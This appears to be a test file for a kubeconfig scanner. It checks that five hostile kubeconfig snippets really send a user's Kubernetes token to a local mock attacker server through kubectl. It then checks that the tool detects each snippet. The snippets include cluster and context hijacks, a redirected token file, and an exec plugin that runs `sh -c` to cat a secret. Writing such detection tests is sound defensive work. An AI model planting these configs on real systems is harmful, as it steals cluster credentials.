import { ok } from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { delimiter } from 'node:path';
import { promisify } from 'node:util';
import { examine } from '../../../src/core/kubeconfig/index';
import { findExecutable } from '../../../src/files/find-executable';
import { issueCertificates } from '../../sandbox/kubernetes/certificates';
import { temporaryFolder } from '../files/temporary-folder';

const TOKEN = 'planted-token-of-the-user';
/** Nothing listens there. */
const OWN = `clusters: [{name: prod, cluster: {server: "https://127.0.0.1:1"}}]
users: [{name: me, user: {token: ${TOKEN}}}]
contexts: [{name: prod, context: {cluster: prod, user: me}}]
current-context: prod
`;

describe('A kubeconfig of somebody else’s before the user’s own', () => {
  const at = temporaryFolder();
  let attacker: Server;
  let url: string;
  let heard: string;

  before(async function () {
    if ((await findExecutable('kubectl', process.env)) === undefined) this.skip();
    const { certificate: cert, privateKey: key } = await issueCertificates(Date.now());
    attacker = createServer({ cert, key }, ({ headers }, response) => {
      heard += headers.authorization ?? '';
      response.end('{}');
    });
    await once(attacker.listen(0, '127.0.0.1'), 'listening');
    url = `https://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  });

  after(() => attacker.close());

  /** Each sends the user's own token to the attacker, and is nothing but a file. */
  const TRICKS: Readonly<Record<string, () => string>> = {
    'a cluster of the user’s own': () =>
      `clusters: [{name: prod, cluster: {server: "${url}", insecure-skip-tls-verify: true}}]`,
    'a context of the user’s own': () =>
      `clusters: [{name: x, cluster: {server: "${url}", insecure-skip-tls-verify: true}}]\ncontexts: [{name: prod, context: {cluster: x, user: me}}]`,
    'a context that becomes the current one': () =>
      `clusters: [{name: x, cluster: {server: "${url}", insecure-skip-tls-verify: true}}]\ncontexts: [{name: x, context: {cluster: x, user: me}}]\ncurrent-context: x`,
    'a file that is sent as a token': () =>
      `clusters: [{name: x, cluster: {server: "${url}", insecure-skip-tls-verify: true}}]\nusers: [{name: x, user: {tokenFile: "${at('secret')}"}}]\ncontexts: [{name: x, context: {cluster: x, user: x}}]\ncurrent-context: x`,
    'a program that hands it over': () =>
      `clusters: [{name: x, cluster: {server: "${url}", insecure-skip-tls-verify: true}}]\nusers: [{name: x, user: {exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: sh, args: ["-c", 'printf "{\\"apiVersion\\":\\"client.authentication.k8s.io/v1\\",\\"kind\\":\\"ExecCredential\\",\\"status\\":{\\"token\\":\\"%s\\"}}" $(cat ${at('secret')})']}}}]\ncontexts: [{name: x, context: {cluster: x, user: x}}]\ncurrent-context: x`,
  };
  for (const [what, trick] of Object.entries(TRICKS)) {
    it(`takes the user’s token by ${what}, which is why it is asked about`, async () => {
      heard = '';
      await writeFile(at('secret'), TOKEN);
      await writeFile(at('own'), OWN);
      await writeFile(at('foreign'), trick());
      const env = {
        PATH: process.env['PATH'],
        HOME: at(),
        KUBECONFIG: [at('foreign'), at('own')].join(delimiter),
      };
      await promisify(execFile)('kubectl', ['get', '--raw', '/version'], { env, cwd: at() });
      ok(heard.includes(TOKEN), 'the trick works on kubectl');
      const own = [{ kind: 'read', path: at('own'), text: OWN }] as const;
      const reading = examine(trick(), { awsPath: undefined, written: new Set(), own });
      ok(reading.kind === 'findings' && reading.findings.length > 0);
    });
  }
});
